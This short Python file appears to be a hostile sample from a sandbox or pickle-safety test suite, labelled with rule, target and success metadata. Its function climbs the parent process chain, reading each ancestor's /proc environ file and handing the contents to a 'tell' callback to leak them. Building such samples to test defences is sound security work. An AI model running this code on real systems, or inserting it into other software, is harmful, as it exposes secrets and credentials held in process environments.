# Reads the environment of the process that started it, and of that one's parent.
# rule: 5
# fools: pickle
# success: leak
# with: every, tell

import os


def trick(*args):
    pid, found = os.getppid(), ""
    for _ in range(3):
        try:
            found += open(f"/proc/{pid}/environ").read()
            pid = open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1]
        except OSError:
            break
    tell(found)
